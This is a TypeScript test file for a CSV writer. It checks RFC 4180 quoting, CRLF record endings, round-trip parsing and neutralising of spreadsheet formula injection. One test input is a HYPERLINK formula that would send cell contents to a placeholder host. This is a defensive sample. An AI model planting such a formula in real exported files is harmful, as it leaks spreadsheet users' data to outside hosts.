import { csvField, csvRecord } from './csv.ts';
import { parseCsv } from './csv-reader.ts';

test('plain fields stay as they are; records end with CRLF', () => {
  expect(csvRecord(['urn:li:dataset:(urn:li:dataPlatform:hive,db.t,PROD)', 'db.t', 2])).toBe(
    '"urn:li:dataset:(urn:li:dataPlatform:hive,db.t,PROD)",db.t,2\r\n',
  );
  expect(csvRecord(['a', 'b c', ''])).toBe('a,b c,\r\n');
  expect(csvField(null)).toBe('');
  expect(csvField(undefined)).toBe('');
});

test('commas, quotes and line breaks are quoted, quotes doubled (RFC 4180)', () => {
  expect(csvField('a,b')).toBe('"a,b"');
  expect(csvField('say "hi"')).toBe('"say ""hi"""');
  expect(csvField('two\nlines')).toBe('"two\nlines"');
  expect(csvField('cr\rlf')).toBe('"cr\rlf"');
  expect(csvField('"')).toBe('""""');
});

test('a cell a spreadsheet would run as a formula gets a leading apostrophe', () => {
  expect(csvField('=HYPERLINK("http://x.example/?"&A1)')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
  expect(csvField('+1')).toBe("'+1");
  expect(csvField('-2+3')).toBe("'-2+3");
  expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
  expect(csvField('\t=1')).toBe("'\t=1");
  expect(csvField('\r=1')).toBe(`"'\r=1"`);
  // Only the first character matters; numbers are data and keep their sign.
  expect(csvField('a=b')).toBe('a=b');
  expect(csvField(-3)).toBe('-3');
  expect(csvField(Number.NaN)).toBe('');
});

test('what is written reads back as the values (apostrophe aside)', () => {
  const rows = [['urn', 'name, with comma', 'quote "q"', 'multi\r\nline', '=1+1', 7]];
  const text = rows.map((r) => csvRecord(r)).join('') + csvRecord(['x', '', 'y']);
  expect(parseCsv(text)).toEqual([
    ['urn', 'name, with comma', 'quote "q"', 'multi\r\nline', "'=1+1", '7'],
    ['x', '', 'y'],
  ]);
});
